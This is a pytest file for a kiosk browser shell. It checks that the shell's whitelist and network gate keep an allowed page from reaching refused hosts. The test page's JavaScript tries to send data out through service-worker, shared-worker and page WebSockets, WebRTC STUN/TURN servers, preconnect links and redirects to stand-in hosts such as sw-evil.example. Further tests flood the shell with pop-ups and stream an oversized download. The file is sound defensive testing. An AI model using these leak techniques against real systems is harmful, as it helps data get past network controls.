"""The whitelist holds at the network: attacks from an allowed page in a real session.

Every page comes through the station's gate from the recording test proxy; a loopback TCP
and UDP listener catch anything that goes around the gate. A refused host must appear in
neither record, and each attack must be seen refused (as a `blocked_navigation` event of the
session), so that a test passing because nothing was tried cannot pass."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from kiosk.gate import GateProcess
from kiosk.shell.window import ShellWindow
from tests.agent.conftest import LiveStore
from tests.shell.conftest import run_js, toast_texts, type_code
from tests.testpolicy import CAF_POLICY
from tests.webproxy import LoopbackListeners, WebProxy

# Opens each WebSocket (sending on open) and reports once every one has closed.
OPEN_SOCKETS = """
function openSockets(targets, report) {
  let left = targets.length;
  const closed = () => { if (--left === 0) report(); };
  for (const target of targets) {
    try {
      const socket = new WebSocket(target);
      socket.onopen = () => { socket.send('leak'); };
      socket.onclose = closed;
    } catch (error) { closed(); }
  }
}
"""

SERVICE_WORKER = OPEN_SOCKETS + """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
self.addEventListener('message', event => openSockets(
  ['wss://sw-evil.example/socket', 'ws://127.0.0.1:' + event.data.tcp + '/'],
  () => event.source.postMessage('sw-done')));
"""

SHARED_WORKER = OPEN_SOCKETS + """
onconnect = event => {
  const port = event.ports[0];
  port.onmessage = message => openSockets(
    ['wss://shared-evil.example/socket', 'ws://127.0.0.1:' + message.data.tcp + '/'],
    () => port.postMessage('shared-done'));
};
"""

ATTACK_PAGE = """<html><head><title>Attaque</title>
<link rel="preconnect" href="https://preconnect-evil.example">
<link rel="dns-prefetch" href="https://prefetch-evil.example">
<link rel="stylesheet" href="/redirect-css">
<script src="/redirect-js"></script>
</head><body>
<img src="/redirect-img">
<script>
window.done = {};
window.worker = new SharedWorker('/shared.js');
window.worker.port.onmessage = message => { window.done[message.data] = true; };
window.worker.port.start();
navigator.serviceWorker.onmessage = message => { window.done[message.data] = true; };
window.swReady = false;
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
  .then(() => { window.swReady = true; });
window.attack = (tcp, udp) => {
  navigator.serviceWorker.ready.then(r => r.active.postMessage({tcp: tcp}));
  window.worker.port.postMessage({tcp: tcp});
  const pc = new RTCPeerConnection({iceServers: [
    {urls: 'stun:127.0.0.1:' + udp}, {urls: 'stun:stun-evil.example:3478'},
    {urls: 'turn:127.0.0.1:' + tcp + '?transport=tcp', username: 'u', credential: 'p'},
    {urls: 'turn:turn-evil.example:3478?transport=tcp', username: 'u', credential: 'p'}]});
  pc.createDataChannel('leak');
  pc.onicegatheringstatechange = () => {
    if (pc.iceGatheringState === 'complete') window.done['webrtc-done'] = true;
  };
  pc.createOffer().then(offer => pc.setLocalDescription(offer));
  setTimeout(() => { window.done['webrtc-done'] = true; }, 15000);
  try { new WebSocket('ws://127.0.0.1:' + tcp + '/'); } catch (error) {}
  return true;
};
</script></body></html>"""

REFUSED = {"sw-evil.example", "shared-evil.example", "preconnect-evil.example",
           "header-evil.example", "redirect-evil.example", "stun-evil.example",
           "turn-evil.example", "prefetch-evil.example", "127.0.0.1"}


@pytest.fixture
def listeners() -> Iterator[LoopbackListeners]:
    made = LoopbackListeners()
    yield made
    made.close()


def serve_attacks(web_proxy: WebProxy) -> None:
    web_proxy.serve("www.caf.fr", "/attaque", ATTACK_PAGE,
                    headers={"Link": "<https://header-evil.example>; rel=preconnect"})
    web_proxy.serve("www.caf.fr", "/sw.js", SERVICE_WORKER, "text/javascript")
    web_proxy.serve("www.caf.fr", "/shared.js", SHARED_WORKER, "text/javascript")
    for kind in ("img", "css", "js"):
        web_proxy.redirect("www.caf.fr", f"/redirect-{kind}",
                           f"https://redirect-evil.example/x.{kind}")


def open_session(qtbot: QtBot, window: ShellWindow, live_store: LiveStore) -> None:
    type_code(qtbot, window, live_store.code(minutes=30))
    qtbot.waitUntil(lambda: not window.showing_lock, timeout=30_000)


def open_page(qtbot: QtBot, window: ShellWindow, url: str, title: str) -> None:
    running = window.running
    assert running is not None
    tab = running.browser.open(url)
    window.session_view.body.setCurrentWidget(running.browser)
    qtbot.waitUntil(lambda: tab.page.title() == title, timeout=30_000)


def blocked_hosts(window: ShellWindow) -> set[str]:
    return {event["data"]["host"] for event in window.agent.outbox.pending()
            if event["type"] == "blocked_navigation"}


def launch_attacks(qtbot: QtBot, window: ShellWindow, listeners: LoopbackListeners) -> None:
    qtbot.waitUntil(lambda: run_js(qtbot, window, "window.swReady") is True, timeout=30_000)
    assert run_js(qtbot, window,
                  f"window.attack({listeners.tcp_port}, {listeners.udp_port})") is True
    qtbot.waitUntil(lambda: run_js(qtbot, window, "Object.keys(window.done).sort().join()")
                    == "shared-done,sw-done,webrtc-done", timeout=40_000)


def test_no_attack_from_an_allowed_page_reaches_a_refused_host(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy,
        listeners: LoopbackListeners) -> None:
    serve_attacks(web_proxy)
    open_session(qtbot, window, live_store)
    open_page(qtbot, window, "https://www.caf.fr/attaque", "Attaque")
    launch_attacks(qtbot, window, listeners)
    # Workers' WebSockets, redirects and page WebSockets were tried and refused (by the
    # engine's gates or the network gate); each refusal is an event of the session.
    qtbot.waitUntil(lambda: {"sw-evil.example", "shared-evil.example",
                             "redirect-evil.example", "127.0.0.1"} <= blocked_hosts(window),
                    timeout=20_000)
    assert not REFUSED & web_proxy.hosts_requested(), web_proxy.request_lines()
    assert listeners.anything() == []
    assert web_proxy.websocket_messages == []


def test_the_network_gate_itself_refuses_what_the_engine_lets_pass(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy,
        gate: GateProcess, listeners: LoopbackListeners) -> None:
    """Workers' WebSockets and preconnections never pass the engine's hooks: the gate is what
    stops them, and it says so."""
    refused: list[str] = []
    gate.watch_refusals(lambda host, _reason: refused.append(host))
    serve_attacks(web_proxy)
    open_session(qtbot, window, live_store)
    open_page(qtbot, window, "https://www.caf.fr/attaque", "Attaque")
    launch_attacks(qtbot, window, listeners)
    qtbot.waitUntil(lambda: {"sw-evil.example", "shared-evil.example"} <= set(refused),
                    timeout=20_000)
    assert not REFUSED & web_proxy.hosts_requested()


def test_with_the_gate_stopped_nothing_gets_out(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy,
        gate: GateProcess, listeners: LoopbackListeners) -> None:
    serve_attacks(web_proxy)
    open_session(qtbot, window, live_store)
    open_page(qtbot, window, "https://www.caf.fr/attaque", "Attaque")
    qtbot.waitUntil(lambda: run_js(qtbot, window, "window.swReady") is True, timeout=30_000)
    gate.stop()
    qtbot.wait(500)  # what was on its way before the stop has landed: only what follows counts
    web_proxy.clear()
    launch_attacks(qtbot, window, listeners)
    run_js(qtbot, window, "fetch('https://www.caf.fr/after-stop').catch(() => 0); 1")
    run_js(qtbot, window, "window.location.href = 'https://www.caf.fr/reload'; 1")
    qtbot.wait(2000)  # time for anything that would leak to arrive: nothing may
    assert web_proxy.request_lines() == []
    assert listeners.anything() == []


def test_an_allowed_sites_websocket_works(qtbot: QtBot, window: ShellWindow,
                                          live_store: LiveStore, web_proxy: WebProxy) -> None:
    web_proxy.serve("www.caf.fr", "/direct", "<title>Direct</title>")
    web_proxy.serve_websocket("www.caf.fr", "/chat")
    open_session(qtbot, window, live_store)
    open_page(qtbot, window, "https://www.caf.fr/direct", "Direct")
    run_js(qtbot, window, """
        window.answer = null;
        const socket = new WebSocket('wss://www.caf.fr/chat');
        socket.onopen = () => socket.send('bonjour');
        socket.onmessage = message => { window.answer = message.data; };
        socket.onclose = event => { window.answer = window.answer || 'closed ' + event.code; };
        true""")
    qtbot.waitUntil(lambda: run_js(qtbot, window, "String(window.answer)") != "null",
                    timeout=20_000)
    assert run_js(qtbot, window, "window.answer") == "echo:bonjour"
    assert web_proxy.websocket_messages == [("www.caf.fr", "bonjour")]
    assert blocked_hosts(window) == set()


def test_a_session_never_opens_without_the_gate(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, gate: GateProcess) -> None:
    port = gate.port
    gate.stop()
    # Something else took the gate's port: the shell cannot start its gate again.
    impostor = socket.create_server(("127.0.0.1", port))
    try:
        type_code(qtbot, window, live_store.code(minutes=30))
        qtbot.waitUntil(window.lock.message.isVisible, timeout=10_000)
        assert "ne peut pas ouvrir de session" in window.lock.message.text()
        assert window.running is None
        assert window.showing_lock
    finally:
        impostor.close()
    # The port is free again: the next guest's code opens a session, the gate restarted.
    window.lock.clear()
    open_session(qtbot, window, live_store)
    assert gate.running
    assert gate.port == port


def test_a_stopped_gate_is_started_again_for_the_next_session(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, gate: GateProcess) -> None:
    gate.stop()
    open_session(qtbot, window, live_store)
    assert gate.running
    open_page(qtbot, window, "http://www.caf.fr/", "CAF")


QUOTA_POLICY = CAF_POLICY.replace("[[site]]", "[session]\ndisk_quota_mb = 2\nmax_tabs = 4\n\n"
                                  "[[site]]", 1)


@pytest.mark.parametrize("window", [QUOTA_POLICY], indirect=True)
def test_a_download_cannot_fill_the_disk(qtbot: QtBot, window: ShellWindow,
                                         live_store: LiveStore, web_proxy: WebProxy) -> None:
    attachment = {"Content-Disposition": 'attachment; filename="pieces.zip"'}
    web_proxy.serve("www.caf.fr", "/petit", b"%PDF-1.4 " + b"x" * 500_000, "application/pdf",
                    {"Content-Disposition": 'attachment; filename="petit.pdf"'})
    web_proxy.serve_stream("www.caf.fr", "/annonce", 30_000_000, headers=attachment)
    web_proxy.serve_stream("www.caf.fr", "/sans-taille", 30_000_000, headers=attachment,
                           announce=False)
    open_session(qtbot, window, live_store)
    running = window.running
    assert running is not None
    open_page(qtbot, window, "http://www.caf.fr/", "CAF")
    # A document that fits is kept.
    run_js(qtbot, window, "window.location.href = 'http://www.caf.fr/petit'; 1")
    qtbot.waitUntil(lambda: [p.name for p in running.folder.document_files()] == ["petit.pdf"],
                    timeout=20_000)
    # One that says it is too large never starts.
    run_js(qtbot, window, "window.location.href = 'http://www.caf.fr/annonce'; 1")
    qtbot.waitUntil(lambda: "trop volumineux" in toast_texts(window, "error"), timeout=20_000)
    assert [p.name for p in running.folder.document_files()] == ["petit.pdf"]
    # One without a size is stopped while it arrives, once it passes the quota.
    window.session_view.toasts.clear()
    run_js(qtbot, window, "window.location.href = 'http://www.caf.fr/sans-taille'; 1")
    qtbot.waitUntil(lambda: "est plein" in toast_texts(window, "error"), timeout=30_000)
    qtbot.wait(500)
    assert [p.name for p in running.folder.document_files()] == ["petit.pdf"]
    assert running.folder.used_bytes() <= 2_000_000


@pytest.mark.parametrize("window", [QUOTA_POLICY], indirect=True)
def test_a_popup_flood_is_capped_and_the_shell_answers(
        qtbot: QtBot, window: ShellWindow, live_store: LiveStore, web_proxy: WebProxy) -> None:
    web_proxy.serve("www.caf.fr", "/popup", "<title>Fenêtre</title>")
    open_session(qtbot, window, live_store)
    running = window.running
    assert running is not None
    open_page(qtbot, window, "http://www.caf.fr/", "CAF")
    run_js(qtbot, window, "for (let i = 0; i < 200; i++) window.open('/popup?' + i); 1")
    qtbot.waitUntil(lambda: "Trop de pages" in toast_texts(window, "warning"), timeout=10_000)
    qtbot.wait(1000)  # every pop-up of the flood has been asked for by now
    assert running.browser.tabs.count() == 4  # the cap, the page itself included
    # The shell still answers: End asks for confirmation.
    qtbot.mouseClick(window.session_view.end_button, Qt.MouseButton.LeftButton)
    assert window.session_view.confirm.isVisible()
    # A service from the tiles opens in the current tab instead of a fifth.
    qtbot.mouseClick(window.session_view.confirm_no, Qt.MouseButton.LeftButton)
    assert not window.session_view.confirm.isVisible()
    running.browser.open("http://www.caf.fr/")
    assert running.browser.tabs.count() == 4
